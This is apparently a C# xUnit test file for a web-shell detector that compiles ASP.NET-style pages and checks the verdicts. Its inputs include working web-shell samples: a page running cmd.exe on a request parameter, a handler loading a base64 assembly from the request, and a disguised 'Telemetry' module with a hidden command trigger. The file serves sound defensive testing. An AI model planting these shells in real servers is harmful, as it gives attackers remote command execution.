using Afterpatch.Scripts.WebShells;
using Microsoft.CodeAnalysis;
using Microsoft.CodeAnalysis.CSharp;
using Xunit;

namespace Afterpatch.Scripts.Tests.WebShells;

/// <summary>Assemblies shaped as ASP.NET compiles pages: a class in namespace ASP that overrides what System.Web gives.</summary>
public sealed class CompiledPageTests
{
    private const string SystemWeb = """
        namespace System.Web {
          public class HttpRequest { public string this[string key] => null; public System.IO.Stream InputStream => null; public HttpFileCollection Files => null; }
          public class HttpFileCollection { public HttpPostedFile this[string key] => null; }
          public class HttpPostedFile { public string FileName => null; public void SaveAs(string path) { } }
          public class HttpResponse { public void Write(object value) { } }
          public class HttpServerUtility { public string MapPath(string path) => path; public string HtmlEncode(string text) => text; }
          public class HttpContext { public static HttpContext Current => null; public HttpRequest Request => null; public HttpResponse Response => null; public HttpServerUtility Server => null; }
          public interface IHttpHandler { void ProcessRequest(HttpContext context); bool IsReusable { get; } }
          public interface IHttpModule { void Init(HttpApplication application); void Dispose(); }
          public class HttpApplication { public event System.EventHandler BeginRequest { add { } remove { } } public HttpContext Context => null; public HttpRequest Request => null; public HttpResponse Response => null; }
        }
        namespace System.Web.UI {
          public class Control { protected virtual void FrameworkInitialize() { } protected virtual void OnLoad(System.EventArgs e) { } }
          public class Page : Control { public System.Web.HttpRequest Request => null; public System.Web.HttpResponse Response => null; public System.Web.HttpServerUtility Server => null; }
        }
        """;

    [Theory]
    [InlineData("""
        namespace ASP { public class cmd_aspx : System.Web.UI.Page, System.Web.IHttpHandler {
          private void __Render__control1(object w, System.Web.UI.Control c) {
            var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request["c"]) { UseShellExecute = false, RedirectStandardOutput = true };
            Response.Write(System.Diagnostics.Process.Start(p).StandardOutput.ReadToEnd()); }
          public virtual void ProcessRequest(System.Web.HttpContext context) { } public bool IsReusable => false; } }
        """)]
    [InlineData("""
        namespace ASP { public class load_ashx : System.Web.IHttpHandler {
          public void ProcessRequest(System.Web.HttpContext context) { System.Reflection.Assembly.Load(System.Convert.FromBase64String(context.Request["d"])).CreateInstance("U").Equals(context); }
          public bool IsReusable => true; } }
        """)]
    [InlineData("""
        public class Telemetry : System.Web.IHttpModule {
          public void Init(System.Web.HttpApplication application) { application.BeginRequest += (s, e) => { var r = ((System.Web.HttpApplication)s).Request; var k = r["tk"]; if (k != null) System.Diagnostics.Process.Start("cmd.exe", "/c " + k); }; }
          public void Dispose() { } }
        """)]
    public void A_compiled_page_is_judged_by_what_its_code_does(string source)
    {
        var judgement = WebShellJudge.Judge("App_Web_x1.dll", Compile(source));
        Assert.True(judgement.Verdict == WebShellVerdict.WebShell, $"{judgement.Verdict} {judgement.Score}: {string.Join("; ", judgement.Reasons)}");
    }

    [Fact]
    public void An_ordinary_compiled_page_is_benign()
    {
        var judgement = WebShellJudge.Judge("App_Web_x2.dll", Compile("""
            namespace ASP { public class upload_aspx : System.Web.UI.Page {
              protected override void OnLoad(System.EventArgs e) {
                var f = Request.Files["photo"];
                if (f != null && (f.FileName.EndsWith(".jpg") || f.FileName.EndsWith(".png"))) f.SaveAs(Server.MapPath("~/photos/" + System.Guid.NewGuid() + ".jpg"));
                foreach (var name in System.IO.Directory.GetFiles(Server.MapPath("~/photos"))) Response.Write(Server.HtmlEncode(System.IO.Path.GetFileName(name))); } } }
            """));
        Assert.Equal(WebShellVerdict.Benign, judgement.Verdict);
    }

    /// <summary>A library writes what its callers tell it to; a shell among many types still runs commands.</summary>
    [Theory]
    [InlineData("System.IO.File.WriteAllBytes(context.Request[\"p\"], System.Convert.FromBase64String(context.Request[\"d\"]));", WebShellVerdict.Benign)]
    [InlineData("System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + context.Request[\"d\"]);", WebShellVerdict.WebShell)]
    public void A_library_is_judged_by_commands_not_by_files(string deed, WebShellVerdict expected)
    {
        var handler = $"public class H : System.Web.IHttpHandler {{ public bool IsReusable => true; public void ProcessRequest(System.Web.HttpContext context) {{ {deed} }} }}\n";
        var types = string.Concat(Enumerable.Range(0, 40).Select(i => $"public class Part{i} {{ public int Of(int x) => x + {i}; }}\n"));
        Assert.Equal(expected, WebShellJudge.Judge("Library.dll", Compile(handler + types)).Verdict);
        Assert.Equal(WebShellVerdict.WebShell, WebShellJudge.Judge("Small.dll", Compile(handler)).Verdict);
    }

    [Theory]
    [InlineData(0, WebShellVerdict.WebShell)]
    [InlineData(6, WebShellVerdict.Benign)]
    public void Parameters_of_a_controller_are_the_clients_in_a_small_program_only(int others, WebShellVerdict expected)
    {
        var source = "public class Controller { } public class FileController : Controller { public void Save(string path, string data) { System.IO.File.WriteAllText(path, data); } }\n"
            + string.Concat(Enumerable.Range(0, others).Select(i => $"public class Part{i} {{ public int Of(int x) => x + {i}; }}\n"));
        Assert.Equal(expected, WebShellJudge.Judge("Site.dll", Compile(source)).Verdict);
    }

    [Fact]
    public void A_compiled_page_cut_anywhere_ends_in_a_judgement()
    {
        var whole = Compile("public class A { public void M() { System.Diagnostics.Process.Start(\"cmd\"); } }");
        foreach (var cut in Testing.Damage.EveryCut(whole, 25))
            WebShellJudge.Judge("a.dll", whole.AsMemory(0, cut));
        foreach (var edited in Testing.Damage.AnyEdits(whole, 25, 3))
            WebShellJudge.Judge("a.dll", edited);
    }

    private static byte[] Compile(string source)
    {
        var platform = ((string)AppContext.GetData("TRUSTED_PLATFORM_ASSEMBLIES")!).Split(Path.PathSeparator)
            .Where(path => Path.GetFileName(path) is "System.Private.CoreLib.dll" or "System.Runtime.dll" or "System.Diagnostics.Process.dll" or "System.ComponentModel.Primitives.dll")
            .Select(path => (MetadataReference)MetadataReference.CreateFromFile(path)).ToList();
        var options = new CSharpCompilationOptions(OutputKind.DynamicallyLinkedLibrary);
        var web = Emit(CSharpCompilation.Create("System.Web", [CSharpSyntaxTree.ParseText(SystemWeb)], platform, options));
        return Emit(CSharpCompilation.Create("App_Web_x", [CSharpSyntaxTree.ParseText(source)], [.. platform, MetadataReference.CreateFromImage(web)], options));
    }

    private static byte[] Emit(CSharpCompilation compilation)
    {
        var image = new MemoryStream();
        var result = compilation.Emit(image);
        Assert.True(result.Success, string.Join('\n', result.Diagnostics.Where(one => one.Severity == DiagnosticSeverity.Error)));
        return image.ToArray();
    }
}
